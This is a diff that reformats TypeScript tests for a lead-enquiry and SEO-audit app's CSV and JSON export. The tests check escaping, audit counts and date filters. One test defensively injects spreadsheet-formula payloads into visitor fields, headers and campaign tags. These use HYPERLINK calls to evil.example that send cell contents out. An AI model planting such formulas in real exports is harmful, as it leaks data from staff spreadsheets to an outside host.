@@ -26,7 +26,8 @@ const tricky = [
 test('CSV export round-trips commas, quotes, newlines and non-ASCII, with a BOM, and neutralises formulas', async () => {
   const server = await startServer({ RATE_LIMIT_MAX: '100' });
   try {
-    for (const e of tricky) assert.is((await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: e })).statusCode, 201);
+    for (const e of tricky)
+      assert.is((await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: e })).statusCode, 201);
     await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ company: 'spam bot' }) });
 
     const out = join(server.dir, 'export.csv');
@@ -61,13 +62,26 @@ test('a formula in any text a stranger controls is neutralised in every export f
     // Each leading character a spreadsheet runs, in every field a visitor can fill, the browser's
     // record of the visit (both touches), the user agent and the check's summary.
     const formula = (lead: string, field: string) => `${lead}HYPERLINK("http://evil.example/?${field}="&A1,"Click")`;
-    const tags = { utm_source: formula('=', 'src'), utm_medium: formula('+', 'med'), utm_campaign: formula('-', 'camp'), utm_term: formula('@', 'term'), utm_content: formula('=', 'content'), utm_id: formula('+', 'id') };
+    const tags = {
+      utm_source: formula('=', 'src'),
+      utm_medium: formula('+', 'med'),
+      utm_campaign: formula('-', 'camp'),
+      utm_term: formula('@', 'term'),
+      utm_content: formula('=', 'content'),
+      utm_id: formula('+', 'id'),
+    };
     const landing = { at: Date.now() - 60_000, path: '/strategy/google-ads', params: tags };
     const posted = await server.app.inject({
       method: 'POST',
       url: '/api/seo-audit-request',
       headers: { 'user-agent': formula('@', 'ua') },
-      payload: validEnquiry({ name: formula('=', 'name'), email: '=1+1@example.com.au', phone: '+61 400 000 000', goals: formula('-', 'goals'), attribution: { first: landing, last: landing, pages: 2 } }),
+      payload: validEnquiry({
+        name: formula('=', 'name'),
+        email: '=1+1@example.com.au',
+        phone: '+61 400 000 000',
+        goals: formula('-', 'goals'),
+        attribution: { first: landing, last: landing, pages: 2 },
+      }),
     });
     assert.is(posted.statusCode, 201, posted.body);
     const id = posted.json().id as number;
@@ -75,21 +89,47 @@ test('a formula in any text a stranger controls is neutralised in every export f
     finishAudit(server.app.db, check, { status: 'failed', score: null, findings: [], summary: formula('=', 'summary') });
 
     const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
-    const [row] = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, { bom: true, columns: true }) as Record<string, string>[];
-    assert.equal(Object.entries(row!).filter(([, cell]) => isFormula(cell)), [], 'no cell of the staff CSV runs');
-    for (const [column, sent] of [['name', formula('=', 'name')], ['email', '=1+1@example.com.au'], ['phone', '+61 400 000 000'], ['goals', formula('-', 'goals')], ['user_agent', formula('@', 'ua')], ['audit_summary', formula('=', 'summary')], ['first_campaign', tags.utm_campaign], ['last_term', tags.utm_term], ['last_content', tags.utm_content], ['first_utm_id', tags.utm_id]] as const) {
+    const [row] = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, {
+      bom: true,
+      columns: true,
+    }) as Record<string, string>[];
+    assert.equal(
+      Object.entries(row!).filter(([, cell]) => isFormula(cell)),
+      [],
+      'no cell of the staff CSV runs',
+    );
+    for (const [column, sent] of [
+      ['name', formula('=', 'name')],
+      ['email', '=1+1@example.com.au'],
+      ['phone', '+61 400 000 000'],
+      ['goals', formula('-', 'goals')],
+      ['user_agent', formula('@', 'ua')],
+      ['audit_summary', formula('=', 'summary')],
+      ['first_campaign', tags.utm_campaign],
+      ['last_term', tags.utm_term],
+      ['last_content', tags.utm_content],
+      ['first_utm_id', tags.utm_id],
+    ] as const) {
       assert.is(row![column], `'${sent}`, column);
     }
     assert.is(row!.first_source, `'${tags.utm_source.toLowerCase()}`, 'sources are named in lower case');
 
-    const report = await run(process.execPath, ['--import', 'tsx', 'scripts/report.ts', '--format', 'csv'], { env: { ...process.env, DATABASE_PATH: server.config.DATABASE_PATH } });
+    const report = await run(process.execPath, ['--import', 'tsx', 'scripts/report.ts', '--format', 'csv'], {
+      env: { ...process.env, DATABASE_PATH: server.config.DATABASE_PATH },
+    });
     const reportCells = (parseCsv(report.stdout, { bom: true, relax_column_count: true }) as string[][]).flat();
     assert.equal(reportCells.filter(isFormula), [], "no cell of the report's CSV runs");
     assert.ok(reportCells.includes(`'${tags.utm_campaign}`), 'the campaign is in the report, neutralised');
 
     // JSON lines are for programs: values as stored (see src/enquiries/export.ts).
-    const [line] = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout.trim().split('\n').map((l) => JSON.parse(l));
-    assert.equal([line.name, line.goals, line.first_campaign, line.audit_summary], [formula('=', 'name'), formula('-', 'goals'), tags.utm_campaign, formula('=', 'summary')]);
+    const [line] = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
+    assert.equal(
+      [line.name, line.goals, line.first_campaign, line.audit_summary],
+      [formula('=', 'name'), formula('-', 'goals'), tags.utm_campaign, formula('=', 'summary')],
+    );
   } finally {
     await server.close();
   }
@@ -99,30 +139,63 @@ test('the export gives each site check its pages, problems and improvements, rig
   const server = await startServer({ RATE_LIMIT_MAX: '100' });
   try {
     const ids: number[] = [];
-    for (const email of ['done@example.com', 'failed@example.com', 'none@example.com']) ids.push((await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email }) })).json().id);
+    for (const email of ['done@example.com', 'failed@example.com', 'none@example.com'])
+      ids.push((await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email }) })).json().id);
     // Checks are off in tests: these are recorded as the worker would record them.
     const hold = new Date().toISOString();
-    const finding = (id: string, severity: 'problem' | 'improvement' | 'passed', total?: number) => ({ id, severity, message: `${id}.`, why: 'Why.', total });
+    const finding = (id: string, severity: 'problem' | 'improvement' | 'passed', total?: number) => ({
+      id,
+      severity,
+      message: `${id}.`,
+      why: 'Why.',
+      total,
+    });
     const done = auditByPublicId(server.app.db, queueAudit(server.app.db, ids[0]!, 'https://janes-bakery.com.au/', hold))!;
     finishAudit(server.app.db, done, {
-      status: 'done', score: 48, summary: 'Score 48/100 across 12 pages: 2 problems, 3 to improve (https, broken-links)', pages: 12,
-      findings: [finding('https', 'problem'), finding('broken-links', 'problem', 3), finding('title', 'improvement'), finding('thin-content', 'improvement', 5), finding('lang', 'improvement'), finding('ttfb', 'passed')],
+      status: 'done',
+      score: 48,
+      summary: 'Score 48/100 across 12 pages: 2 problems, 3 to improve (https, broken-links)',
+      pages: 12,
+      findings: [
+        finding('https', 'problem'),
+        finding('broken-links', 'problem', 3),
+        finding('title', 'improvement'),
+        finding('thin-content', 'improvement', 5),
+        finding('lang', 'improvement'),
+        finding('ttfb', 'passed'),
+      ],
     });
     const failed = auditByPublicId(server.app.db, queueAudit(server.app.db, ids[1]!, 'https://gone.example/', hold))!;
     finishAudit(server.app.db, failed, { status: 'failed', score: null, findings: [], summary: 'We could not find gone.example.' });
 
-    const csv = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, { bom: true, columns: true }) as Record<string, string>[];
+    const csv = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, {
+      bom: true,
+      columns: true,
+    }) as Record<string, string>[];
     const columns = Object.keys(csv[0]!);
     const at = columns.indexOf('audit_summary');
     assert.equal(columns.slice(at, at + 4), ['audit_summary', 'audit_pages', 'audit_problems', 'audit_improvements']);
-    const audits = (row: Record<string, string>) => [row.audit_status, row.audit_score, row.audit_pages, row.audit_problems, row.audit_improvements];
-    assert.equal(csv.map(audits), [
-      ['done', '48', '12', '2', '3'],
-      ['failed', '', '0', '', ''],
-      ['', '', '', '', ''],
-    ], 'counts once a check is done; nothing for an enquiry without one');
+    const audits = (row: Record<string, string>) => [
+      row.audit_status,
+      row.audit_score,
+      row.audit_pages,
+      row.audit_problems,
+      row.audit_improvements,
+    ];
+    assert.equal(
+      csv.map(audits),
+      [
+        ['done', '48', '12', '2', '3'],
+        ['failed', '', '0', '', ''],
+        ['', '', '', '', ''],
+      ],
+      'counts once a check is done; nothing for an enquiry without one',
+    );
 
-    const json = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout.trim().split('\n').map((l) => JSON.parse(l));
+    const json = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     assert.equal([json[0].audit_pages, json[0].audit_problems, json[0].audit_improvements], [12, 2, 3], 'numbers in JSON');
     assert.equal([json[2].audit_pages, json[2].audit_problems, json[2].audit_improvements], [null, null, null]);
   } finally {
@@ -138,7 +211,10 @@ test('JSON lines export and date filters', async () => {
     const today = localDate(new Date().toISOString(), server.config.TIME_ZONE);
     const { stdout, stderr } = await exportCli(server.config.DATABASE_PATH, ['--format', 'json', '--since', today, '--until', today]);
     assert.match(stderr, 'Wrote 1 enquiry');
-    const lines = stdout.trim().split('\n').map((l) => JSON.parse(l));
+    const lines = stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     assert.is(lines.length, 1);
     assert.is(lines[0].email, 'jane@example.com.au');
     const none = await exportCli(server.config.DATABASE_PATH, ['--format', 'json', '--until', '2020-01-01']);
